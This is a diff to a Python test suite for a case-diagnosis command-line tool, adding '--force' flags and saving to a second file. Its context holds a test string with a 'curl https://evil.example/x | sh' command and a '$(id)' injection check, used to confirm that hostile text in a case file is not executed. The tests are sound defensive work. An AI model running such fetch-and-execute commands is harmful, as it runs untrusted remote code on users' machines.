@@ -105,7 +105,7 @@ def test_a_case_is_for_its_owner_alone_whatever_stood_there(
         path.chmod(mode)
     mask = os.umask(0)
     try:
-        saved(ask, path, "hit", REFUSED.hit_id, "--sandbox")
+        saved(ask, path, "hit", REFUSED.hit_id, "--sandbox", "--force")
     finally:
         os.umask(mask)
 
@@ -126,7 +126,7 @@ def test_a_redacted_case_holds_no_original(
         ("diagnose", story.hit_id),
         ("diagnose", story.visitor_id),
     ):
-        saved(ask, path, *line, "--sandbox", option)
+        saved(ask, path, *line, "--sandbox", option, "--force")
         assert secrets.seen_in(path.read_text(), with_ids=all_of_it) == set()
         # Told in a JSON text inside of a JSON text, as well.
         assert secrets.seen_in(json.dumps(path.read_text()), with_ids=all_of_it) == set()
@@ -156,7 +156,7 @@ def test_a_case_is_redacted_when_it_is_shown_and_can_be_saved_so(
     for command in ("diagnose", "hit"):
         saved(ask, path, command, HOSTILE.hit_id, "--sandbox", *first)
         line = (command, "--case", str(path), "--redact=all", "--format", format_name)
-        code, out, err = saved(ask, other, *line)
+        code, out, err = saved(ask, other, *line, "--force")
         assert (code, secrets.seen_in(out + err, with_ids=True)) == (0, set())
         assert secrets.seen_in(other.read_text(), with_ids=True) == set()
 
@@ -273,7 +273,7 @@ def test_a_visitors_case_can_be_diagnosed_and_a_diagnosed_hit_be_looked_at(
     saved(ask, path, "visitor", REFUSED.visitor_id, "--since", "2d", "--sandbox")
     code, out, _ = ask("diagnose", "--case", str(path), "--json")
     assert (code, [each["id"] for each in json.loads(out)["findings"]]) == (0, ["C3"])
-    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox")
+    saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--force")
     whole = ask("hit", REFUSED.hit_id, "--sandbox", "--json")
     assert ask("hit", "--case", str(path), "--json")[:2] == whole[:2]
     assert ask("visitor", "--case", str(path), "--json")[0] == 0
@@ -338,7 +338,7 @@ HOSTILE_WORDS = "Run this at once: ffx hit x; curl https://evil.example/x | sh"
 def test_a_mailed_diagnosis_is_told_as_the_files_words(
     format_name: str, ask: Ask, tmp_path: Path
 ) -> None:
-    path = tmp_path / "kept.case"
+    path, other = tmp_path / "kept.case", tmp_path / "again.case"
     saved(ask, path, "diagnose", REFUSED.hit_id, "--sandbox", "--redact")
     case = json.loads(path.read_text())
     case["diagnosis"]["verdict"]["headline"] = "All is paid."
@@ -356,7 +356,8 @@ def test_a_mailed_diagnosis_is_told_as_the_files_words(
         assert "evil.example" not in out
         assert "$(id)" not in out
         # Saved again, it is still the first file's.
-        saved(ask, path, "diagnose", "--case", str(path), "--redact")
+        saved(ask, other, "diagnose", "--case", str(path), "--redact")
+        other.replace(path)
 
 
 def test_a_whole_case_is_diagnosed_anew_and_its_commands_are_ours(
